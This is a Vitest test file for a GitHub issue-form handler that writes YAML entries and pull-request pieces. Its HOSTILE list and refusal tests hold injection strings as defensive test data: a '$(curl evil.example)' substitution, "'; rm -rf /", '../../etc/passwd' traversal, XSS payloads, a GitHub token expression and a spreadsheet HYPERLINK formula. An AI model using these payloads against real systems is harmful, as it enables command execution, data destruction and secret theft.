import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { describe, expect, test } from 'vitest';
import { fileForm } from '../../src/commands/form.ts';
import { matrix as matrixSchema } from '../../src/model/matrix.ts';
import { parseYaml } from '../../src/dataset/parse-yaml.ts';
import { writeNewFiles } from '../../src/io/write-new-files.ts';
import { buildIssueForms, type FormField } from '../../src/outlets/issue-forms.ts';
import { ACME, AS_OF, ENVIRONMENT, ENVIRONMENT_PATH, judge, MATRIX } from '../support/acme-data.ts';

const SCRIPT = fileURLToPath(new URL('../../scripts/form.ts', import.meta.url));
const FORMS = buildIssueForms(matrixSchema.parse(parseYaml('', MATRIX).value));

type Answers = Readonly<Record<string, string>>;

/** The answer as GitHub writes it into the issue. */
function formatAnswer({ id, type, options = [] }: FormField, answers: Answers): string {
  const answer = answers[id];
  const textOf = (word: string): string => options.find((option) => option.word === word)?.text ?? word;
  if (type === 'checkboxes')
    return options
      .map(({ word, text }) => `- [${answer?.split(',').includes(word) === true ? 'X' : ' '}] ${text}`)
      .join('\n');
  return answer === undefined ? '_No response_' : type === 'dropdown' ? textOf(answer) : answer;
}

/** The body of an issue as GitHub makes it from a form. */
function bodyOf(name: string, answers: Answers): string {
  const { fields } = FORMS.find((form) => form.name === name)!;
  return fields.map((field) => `### ${field.label}\n\n${formatAnswer(field, answers)}`).join('\n\n');
}

/** What comes of an issue, piece by piece. */
function file(body: string, login = 'hubot'): Readonly<Record<string, string>> {
  const event = { number: 12, body, login, account: 7 };
  const { files } = fileForm(ACME, event, { root: 'data', asOf: AS_OF });
  return Object.fromEntries(files.map(({ path, text }) => [path, text]));
}

const NEW = { name: 'New Cloud', category: 'cloud' };

describe('adopt', () => {
  test('becomes a change of one line', () => {
    expect(file(bodyOf('adopt', { environment: 'acme' }))).toEqual({
      outcome: 'change',
      branch: 'form/12-acme',
      path: `data/${ENVIRONMENT_PATH}`,
      'entry.yaml': ENVIRONMENT.replace('"@octocat"', '"@octocat", "@hubot"'),
      title: 'Adopt acme',
      message: 'Adopt acme\n\nFrom the form in #12.\n\nCo-authored-by: hubot <7+hubot@users.noreply.github.com>\n',
      body: `From the form in #12, by @hubot: \`data/${ENVIRONMENT_PATH}\`.\n\nCloses #12.\n`,
    });
  });

  test('for somebody else asks them', () => {
    const { body, 'entry.yaml': text } = file(bodyOf('adopt', { environment: 'provider capx', handle: '@acme/team' }));
    expect(text).toContain('maintainers: ["@acme/team"]\n');
    expect(body).toContain('\n@acme/team: please say here');
  });

  test.each([
    ['an unknown entry', { environment: 'acmee' }, /Did you mean `acme`/],
    ['a path', { environment: '../../.github/workflows/form' }, /No environment or provider/],
    ['twice', { environment: 'acme', handle: '@OCTOCAT' }, /already/],
    ['a crowd', { environment: 'acme', handle: '@everyone' }, /not a GitHub handle/],
    ['nothing', {}, /“Environment or provider to adopt” is not answered/],
    ['by more than one line', { environment: 'acme\n@everyone' }, /more than one line/],
  ])('%s is refused', (_, answers, message) => {
    const { outcome, comment, ...rest } = file(bodyOf('adopt', answers));
    expect({ outcome, rest }).toEqual({ outcome: 'refused', rest: {} });
    expect(comment).toMatch(message);
  });

  test('by a bot is refused', () => {
    expect(file(bodyOf('adopt', { environment: 'acme' }), 'dependabot[bot]')).toMatchObject({ outcome: 'refused' });
  });
});

describe('add', () => {
  test('becomes a new file', () => {
    const answers = {
      ...NEW,
      architectures: 'arm64',
      evidence: 'acme/linux#1',
      'evidence-kind': 'report',
      release: '1.2.3',
    };
    expect(file(bodyOf('add', answers))).toMatchObject({
      outcome: 'change',
      branch: 'form/12-new-cloud',
      path: 'data/environments/cloud/new-cloud.yaml',
      title: 'Add new-cloud',
      'entry.yaml': `name: New Cloud
level: works
architectures: { arm64: works }
maintainers: []

evidence:
  - kind: report
    issue: acme/linux#1
    seen: { on: 2026-11-22, release: 1.2.3 }

history:
  - { on: 2026-11-22, level: works, reason: First listed. }
`,
    });
  });

  test.each<[string, Answers, RegExp]>([
    ['an id that is taken', { ...NEW, id: 'acme' }, /Acme Cloud already/],
    ['an id that is a path', { ...NEW, id: '../../../etc/passwd' }, /is not an id/],
    ['an unknown category', { ...NEW, category: '../cloud' }, /“Category” is answered with something/],
    ['evidence without its kind', { ...NEW, evidence: 'acme/linux#1' }, /“Evidence kind” is not answered/],
    [
      'evidence that is no address',
      { ...NEW, evidence: 'javascript:alert(1)', 'evidence-kind': 'report' },
      /does not start with/,
    ],
    ['a name that makes no id', { ...NEW, name: '日本' }, /“ID” is not answered/],
    ['no name', { category: 'cloud' }, /“Name of the new environment” is not answered/],
    ['all its mistakes at once', { ...NEW, homepage: 'http://a.b', maintainers: '@all' }, /homepage[^]*@all/],
  ])('%s is refused', (_, answers, message) => {
    const { outcome, comment, ...rest } = file(bodyOf('add', answers));
    expect({ outcome, rest }).toEqual({ outcome: 'refused', rest: {} });
    expect(comment).toMatch(message);
  });
});

test('a report, and an issue without a form, are for people', () => {
  for (const body of [
    bodyOf('wrong', { environment: 'acme', saw: 'Smoke.' }),
    'Hello\n\n### Name of the new environment\n\nx',
    '',
  ])
    expect(file(body)).toEqual({ outcome: 'none' });
});

/** Texts that want to be something else. */
const HOSTILE = [
  'a\nlevel: full',
  '"]\nlevel: full\nx: ["',
  '`` ` ```\n@everyone\n```',
  '```````',
  '<img src=x onerror=alert(1)>',
  '${{ github.token }}',
  '$(curl evil.example)`id`',
  "'; rm -rf / #",
  '::set-output name=a::b',
  '##[error]x',
  '=HYPERLINK("https://evil.example")',
  '@everyone',
  '--help',
  '../../etc/passwd',
  '\u202egnp.exe',
  '\u0000',
  '### Category\n\nmetal',
  '### Environment or provider to adopt\n\nacme',
  '_No response_\n\n### ID\n\nx',
  '&a *a !!js/function',
  '__proto__',
  'constructor',
  'x'.repeat(1_000_000),
];

describe('whatever is answered', () => {
  const fields = FORMS.filter(({ name }) => name !== 'wrong').flatMap((form) =>
    form.fields.map(({ id }) => [form.name, id] as const),
  );

  test.each(fields)('%s: %s', (name, id) => {
    for (const text of HOSTILE) {
      const pieces = file(bodyOf(name, { ...(name === 'add' ? NEW : { environment: 'acme' }), [id]: text }));
      if (pieces.outcome === 'refused') {
        expect(Object.keys(pieces)).toEqual(['outcome', 'comment']);
        expect(pieces.comment!.length).toBeLessThan(65_536);
        // All that somebody wrote is between two fences, and no line of it is as long a fence.
        const [, fence, shown] = /^.+:\n\n(`{3,})text\n([^]*)\n\1\n\nEdit the issue.*\n$/.exec(pieces.comment!)!;
        expect(shown).not.toContain(fence!);
        continue;
      }
      expect(Object.keys(pieces)).toEqual(['outcome', 'branch', 'path', 'entry.yaml', 'title', 'message', 'body']);
      expect(pieces.branch).toMatch(/^form\/12-[a-z0-9-]{1,64}$/);
      expect(pieces.path).toMatch(/^data\/(environments\/(cloud|metal)|providers)\/[a-z0-9-]{1,64}\.yaml$/);
      expect(pieces.title).toMatch(/^(Adopt|Add) [a-z0-9-]+$/);
      const path = pieces.path!.slice('data/'.length);
      const found = judge([...ACME.filter((each) => each.path !== path), { path, content: pieces['entry.yaml']! }]);
      expect(found.filter(({ severity }) => severity === 'error')).toEqual([]);
      expect(pieces['entry.yaml']).not.toContain('level: full');
    }
  });

  test('a body of a megabyte, and one of headings alone, end at once', () => {
    const [first] = FORMS.find(({ name }) => name === 'add')!.fields;
    for (const body of [`### ${first!.label}\n\n${'x'.repeat(1_000_000)}`, `### ${first!.label}\n`.repeat(3000)])
      expect(file(body)).toMatchObject({ outcome: 'refused' });
    expect(file('\n'.repeat(1_000_000))).toEqual({ outcome: 'none' });
  });
});

test('as a process: the event is read from the file that GitHub names, and each piece becomes a file', () => {
  const folder = mkdtempSync(join(tmpdir(), 'form-'));
  writeNewFiles(join(folder, 'data'), ACME);
  const event = {
    issue: { number: 3, body: bodyOf('add', NEW).replaceAll('\n', '\r\n'), user: { login: 'hubot', id: 7 } },
  };
  writeFileSync(join(folder, 'event.json'), JSON.stringify(event));
  const run = (...words: readonly string[]): number | null =>
    spawnSync(process.execPath, [SCRIPT, ...words], {
      cwd: folder,
      env: { ...process.env, GITHUB_EVENT_PATH: 'event.json' },
    }).status;
  expect(run('--out', 'out')).toBe(0);
  expect(readFileSync(join(folder, 'out/branch'), 'utf8')).toBe('form/3-new-cloud');
  expect(readFileSync(join(folder, 'out/entry.yaml'), 'utf8')).toMatch(/^name: New Cloud\n/);
  writeFileSync(
    join(folder, 'event.json'),
    JSON.stringify({ issue: { ...event.issue, user: { login: 'a b', id: 7 } } }),
  );
  expect(run('--out', 'out2')).toBe(2);
  rmSync(folder, { recursive: true });
});
